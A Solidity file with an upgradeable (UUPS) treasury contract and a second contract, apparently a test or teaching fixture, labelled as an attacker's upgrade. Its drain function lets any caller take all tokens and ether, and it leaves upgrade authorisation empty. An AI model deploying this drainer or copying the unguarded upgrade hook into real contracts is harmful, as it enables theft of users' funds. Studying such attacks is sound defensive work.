// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {Initializable} from "@openzeppelin/contracts/proxy/utils/Initializable.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";

/// A treasury behind an upgradeable (UUPS) proxy: its owner pays, pauses and upgrades. Sound, if it is initialised by
/// the transaction that creates its proxy.
contract Treasury is Initializable, UUPSUpgradeable {
    using SafeERC20 for IERC20;

    address public owner;
    bool public paused;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Paused(address account);
    event Unpaused(address account);
    event Paid(address indexed token, address indexed to, uint256 amount);

    error OnlyOwner();
    error EnforcedPause();

    modifier onlyOwner() {
        require(msg.sender == owner, OnlyOwner());
        _;
    }

    constructor() {
        _disableInitializers();
    }

    receive() external payable {}

    function initialize(address owner_) external initializer {
        _setOwner(owner_);
    }

    function transferOwnership(address newOwner) external onlyOwner {
        _setOwner(newOwner);
    }

    function pause() external onlyOwner {
        paused = true;
        emit Paused(msg.sender);
    }

    function unpause() external onlyOwner {
        paused = false;
        emit Unpaused(msg.sender);
    }

    /// Pays a token, or ether for token 0.
    function pay(IERC20 token, address payable to, uint256 amount) external onlyOwner {
        require(!paused, EnforcedPause());
        if (address(token) == address(0)) {
            Address.sendValue(to, amount);
        } else {
            token.safeTransfer(to, amount);
        }
        emit Paid(address(token), to, amount);
    }

    function _authorizeUpgrade(address) internal override onlyOwner {}

    function _setOwner(address newOwner) private {
        emit OwnershipTransferred(owner, newOwner);
        owner = newOwner;
    }
}

/// An attacker's upgrade: whoever calls takes everything.
contract MaliciousTreasury is UUPSUpgradeable {
    using SafeERC20 for IERC20;

    receive() external payable {}

    function drain(IERC20[] calldata tokens, address payable to) external {
        for (uint256 i; i < tokens.length; i++) {
            tokens[i].safeTransfer(to, tokens[i].balanceOf(address(this)));
        }
        Address.sendValue(to, address(this).balance);
    }

    function _authorizeUpgrade(address) internal override {}
}
